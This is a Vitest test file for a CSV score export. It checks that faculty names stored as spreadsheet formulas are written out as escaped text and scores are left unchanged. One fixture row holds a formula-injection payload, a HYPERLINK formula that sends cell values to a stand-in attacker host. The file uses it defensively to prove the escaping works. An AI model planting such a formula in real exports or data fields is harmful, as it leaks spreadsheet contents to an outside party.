/**
 * The CSV the score screen writes (issue 20): a faculty name an attacker stored as a formula
 * reaches the file as text, which a spreadsheet does not run; scores and '-' stay as they are.
 */
import { describe, expect, it, vi } from 'vitest';
import { downloadTable } from './score-file';

function readBlob(blob: Blob) {
  return new Promise<string>((resolve, reject) => {
    const reader = new FileReader();
    reader.onload = () => resolve(String(reader.result));
    reader.onerror = () => reject(reader.error);
    reader.readAsText(blob);
  });
}

describe('the score export as CSV', () => {
  it('writes a formula in a cell as text', async () => {
    let saved: Blob | null = null;
    vi.spyOn(URL, 'createObjectURL').mockImplementation((blob) => {
      saved = blob as Blob;
      return 'blob:test';
    });
    vi.spyOn(URL, 'revokeObjectURL').mockImplementation(() => {});
    vi.spyOn(HTMLAnchorElement.prototype, 'click').mockImplementation(() => {});
    await downloadTable(
      [
        ['university_code', 'faculty_code', 'program', 'index', 'track', 'year', 'score', 'faculty_name'],
        ['GUC', 'MED', 'normal', '1', 'thanwyaa', 'first', '-', '=HYPERLINK("http://evil.example/?d="&A2&B2,"x")'],
        ['GUC', 'ENG', 'normal', '2', 'thanwyaa', 'first', '90', '@SUM(1+1)'],
        ['GUC', 'ART', 'normal', '3', 'thanwyaa', 'first', '75', 'كلية الآداب - قسم +'],
      ],
      'csv',
      'scores',
    );
    expect(saved).not.toBeNull();
    const lines = (await readBlob(saved!)).replace(/^\uFEFF/, '').split(/\r?\n/);
    expect(lines).toEqual([
      'university_code,faculty_code,program,index,track,year,score,faculty_name',
      `GUC,MED,normal,1,thanwyaa,first,-,"'=HYPERLINK(""http://evil.example/?d=""&A2&B2,""x"")"`,
      "GUC,ENG,normal,2,thanwyaa,first,90,'@SUM(1+1)",
      'GUC,ART,normal,3,thanwyaa,first,75,كلية الآداب - قسم +',
    ]);
  });
});
